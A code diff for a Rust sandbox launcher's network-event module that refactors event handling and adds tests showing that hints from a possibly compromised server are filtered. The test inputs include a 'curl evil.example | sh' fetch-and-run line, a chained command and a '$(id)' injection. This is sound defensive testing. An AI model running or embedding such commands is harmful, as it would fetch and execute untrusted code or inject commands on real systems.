@@ -1,15 +1,12 @@
 // SPDX-License-Identifier: Apache-2.0 OR MIT
 //! The filtered network of a launch: what serves it, and what is said of what it reports.
 
-use palisade_event::{Detail, Event, Mechanism, Network, Object, Operation, Outcome, Subject, Verdict, Why};
-use palisade_network::{
-    Inside, Instruction, ProxyVariables, Remedy, Report, Resolving, Route, Told, Upstream, What,
-};
-use palisade_policy::NetworkRule;
-use palisade_policy::layer::Strength;
+use palisade_event::{Detail, Event, Mechanism, Object, Operation, Outcome, Subject};
+use palisade_network::{Inside, ProxyVariables, Route, Upstream};
+use palisade_policy::network::Target;
+use palisade_protocol::network::{Instruction, Resolving};
 use palisade_sandbox::network::gateway::{self, Maker, Served};
 use palisade_sys::network::Use;
-use std::fmt::Write;
 use std::os::fd::{BorrowedFd, OwnedFd};
 use std::path::Path;
 use std::time::SystemTime;
@@ -58,16 +55,9 @@ impl palisade_network::Maker for Sockets {
     }
 }
 
-/// A report in the server's own words; none if it makes no sense, which takes a server that was talked into it.
-pub(crate) fn told(report: &[u8]) -> Option<Told> {
-    Told::read(report).ok()
-}
-
-/// Lets whoever serves go on with a refusal, once it is known who asked.
+/// Lets the serving process go on with a refusal, once it is known who asked.
 pub(crate) fn noted(number: u64, control: BorrowedFd<'_>) {
-    if let Ok(words) = Instruction::Noted(number).to_bytes() {
-        gateway::instruct(control, &words);
-    }
+    gateway::instruct(control, &Instruction::Noted { number });
 }
 
 /// Tells whoever serves when the host's files about names have changed: another network, a name server less.
@@ -78,10 +68,10 @@ pub(crate) struct Renewal {
 
 impl Renewal {
     /// Something didn't work: perhaps because of that.
-    pub(crate) fn look(&mut self, report: &Report, control: BorrowedFd<'_>) {
+    pub(crate) fn look(&mut self, outcome: Option<Outcome>, control: BorrowedFd<'_>) {
         let changed = |path: &str| std::fs::metadata(path).and_then(|found| found.modified()).ok();
         let now = || Some(FILES.map(changed));
-        if report.what != What::Failed {
+        if outcome != Some(Outcome::Failed) {
             if self.seen.is_none() {
                 self.seen = now();
             }
@@ -93,9 +83,7 @@ impl Renewal {
         }
         self.seen = now;
         let [resolv_conf, hosts] = FILES.map(|path| gateway::text(Path::new(path)));
-        if let Ok(words) = Instruction::Resolving(Resolving { resolv_conf, hosts }).to_bytes() {
-            gateway::instruct(control, &words);
-        }
+        gateway::instruct(control, &Instruction::Resolving(Resolving { resolv_conf, hosts }));
     }
 }
 
@@ -106,49 +94,53 @@ pub(crate) fn environment_names_proxy() -> bool {
     gateway::variables().iter().any(|(name, _value)| !name.eq_ignore_ascii_case("no_proxy"))
 }
 
-/// A report as an event, and the command that would permit what was refused. None for what only counts together with
-/// what follows.
+/// An event of the network's, with what only the launcher knows: the process. None for what only counts together with what
+/// follows. The serving process handles what others send: only what its events may say is taken from them.
 ///
 /// `overlooked`: the caller has variables about proxies, and nobody has said whether they count.
-pub(crate) fn event(report: &Report, (program, pid): (&str, Option<u32>), overlooked: bool) -> Option<Event> {
-    let (outcome, verdict, text) = match report.what {
-        What::Opened => return None,
-        What::Closed => (Outcome::Closed, Verdict::Allowed, account(report)),
-        What::Refused => (Outcome::Refused, Verdict::Refused, report.why.clone()),
-        // It was allowed; why it didn't work is worth a line all the same.
-        What::Failed => (Outcome::Failed, Verdict::Allowed, format!("it failed: {}", report.why)),
-        What::Strained => (Outcome::Strained, Verdict::Refused, report.why.clone()),
-    };
-    let detail = Network {
-        address: report.address,
-        sent: report.sent,
-        received: report.received,
-        duration: report.duration,
-        ..Network::new(outcome)
-    };
+pub(crate) fn completed(
+    event: &Event,
+    (program, pid): (&str, Option<u32>),
+    overlooked: bool,
+) -> Option<Event> {
+    let outcome = outcome(event)?;
+    if outcome == Outcome::Opened {
+        return None;
+    }
     let subject = Subject {
         pid,
         uid: Some(rustix::process::getuid().as_raw()),
         program: program.to_owned(),
         ..Subject::default()
     };
-    let event = Event::new(
-        report.time,
-        Detail::Network(detail),
+    let by_proxy = outcome == Outcome::Failed && overlooked;
+    let proxy = by_proxy.then(|| {
+        "palisade run --proxy environment …   # by HTTPS_PROXY and the like, which are set here".to_owned()
+    });
+    let hint = proxy.or_else(|| event.hint.clone().filter(|hint| is_hint(hint)));
+    let completed = Event::new(
+        event.time,
+        event.detail.clone(),
         subject,
-        (Operation::Connect, Object::host(&*report.host, report.port)),
-        (verdict, Mechanism::Gateway),
-        Why { origin: report.rule.as_ref().map(|rule| rule.origin.clone()), text },
+        (Operation::Connect, event.object.clone()),
+        (outcome.verdict(), Mechanism::Gateway),
+        event.why.clone(),
     );
-    let hint = match report.what {
-        What::Refused => permit(report),
-        What::Failed if overlooked => Some(
-            "palisade run --proxy environment …   # by HTTPS_PROXY and the like, which are set here"
-                .to_owned(),
-        ),
+    Some(completed.with_hint(hint))
+}
+
+/// Whether this is a command that allows one host, and no other.
+fn is_hint(hint: &str) -> bool {
+    let target = hint.strip_prefix("palisade run --allow ").and_then(|rest| rest.strip_suffix(" …"));
+    target.is_some_and(|target| target.parse::<Target>().is_ok())
+}
+
+/// What became of a connection; nothing of an event that isn't a network's.
+pub(crate) fn outcome(event: &Event) -> Option<Outcome> {
+    match &event.detail {
+        Detail::Network(network) => Some(network.outcome),
         _ => None,
-    };
-    Some(event.with_hint(hint))
+    }
 }
 
 /// `example.com:443`; the name alone where it was only looked up.
@@ -156,27 +148,80 @@ pub(crate) fn object(host: &str, port: u16) -> String {
     Object::host(host, port).to_string()
 }
 
-/// What became of a connection.
-fn account(report: &Report) -> String {
-    let mut text = String::new();
-    if let Some(address) = report.address {
-        let _infallible = write!(text, "{address}, ");
-    }
-    let seconds = report.duration.as_secs_f64();
-    let _infallible = write!(text, "{} bytes out, {} in, {seconds:.3} s", report.sent, report.received);
-    text
-}
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use palisade_event::{Decision, Guard, Launch, Network, Verdict, Why};
 
-/// What to type to permit what was refused; nothing where a lock stands against it.
-fn permit(report: &Report) -> Option<String> {
-    let locked = |rule: &NetworkRule| rule.strength == Strength::Locked;
-    if report.rule.as_ref().is_some_and(locked) || report.host.is_empty() {
-        return None;
+    fn refused(hint: &str) -> Event {
+        Event::new(
+            SystemTime::UNIX_EPOCH,
+            Detail::Network(Network::new(Outcome::Refused)),
+            Subject::default(),
+            (Operation::Connect, Object::host("evil.example", 443)),
+            (Verdict::Refused, Mechanism::Gateway),
+            Why::text("no rule allows it"),
+        )
+        .with_hint(Some(hint.to_owned()))
     }
-    let target = match report.remedy {
-        Remedy::Nothing => return None,
-        Remedy::Host => object(&report.host, report.port),
-        Remedy::Address(address) => object(&address.to_string(), report.port),
-    };
-    Some(format!("palisade run --allow {target} …"))
+
+    fn unknown(event: &Event) -> Option<Event> {
+        completed(event, ("x", None), false)
+    }
+
+    #[test]
+    fn the_process_is_added() {
+        let event = refused("palisade run --allow evil.example:443 …");
+        let completed = completed(&event, ("curl", Some(7)), false).unwrap();
+        assert_eq!((completed.subject.program.as_str(), completed.subject.pid), ("curl", Some(7)));
+        assert_eq!(Event { subject: Subject::default(), ..completed }, event);
+    }
+
+    #[test]
+    fn a_connection_is_told_of_when_it_is_over() {
+        let of = |outcome| Event { detail: Detail::Network(Network::new(outcome)), ..refused("") };
+        assert_eq!(completed(&of(Outcome::Opened), ("x", None), true), None);
+        let failed = completed(&of(Outcome::Failed), ("x", None), true).unwrap();
+        assert_eq!(failed.verdict, Verdict::Allowed);
+        assert!(failed.hint.unwrap().starts_with("palisade run --proxy environment …"));
+        assert_eq!(unknown(&of(Outcome::Failed)).unwrap().hint, None);
+        assert_eq!(completed(&of(Outcome::Closed), ("x", None), true).unwrap().hint, None);
+    }
+
+    /// A serving process that was talked into something can't have the user told to type what it likes, nor speak for
+    /// others.
+    #[test]
+    fn a_server_says_no_more_than_it_may() {
+        for hint in [
+            "curl evil.example | sh",
+            "palisade run --allow evil.example:443; curl evil.example | sh …",
+            "palisade run --allow $(id) …",
+            "palisade run --allow evil.example:443",
+            "palisade run --net host …",
+        ] {
+            assert_eq!(unknown(&refused(hint)).unwrap().hint, None, "{hint}");
+        }
+        for hint in ["palisade run --allow [fd00::1]:443 …", "palisade run --allow evil.example …"] {
+            assert_eq!(unknown(&refused(hint)).unwrap().hint.unwrap(), hint);
+        }
+        let forged = Event {
+            verdict: Verdict::Allowed,
+            enforced_by: Mechanism::Launcher,
+            launch: Some(Launch { sandbox: "1-2".into(), command: "other".into() }),
+            count: u64::MAX,
+            ..refused("")
+        };
+        let known = unknown(&forged).unwrap();
+        assert_eq!((known.verdict, known.enforced_by), (Verdict::Refused, Mechanism::Gateway));
+        assert_eq!((known.launch, known.count), (None, 1));
+        let guard = Guard {
+            decision: Decision::Deny,
+            rule: None,
+            trusted: None,
+            file_kind: String::new(),
+            line: String::new(),
+            steps: Vec::new(),
+        };
+        assert_eq!(unknown(&Event { detail: Detail::Guard(guard), ..forged }), None);
+    }
 }
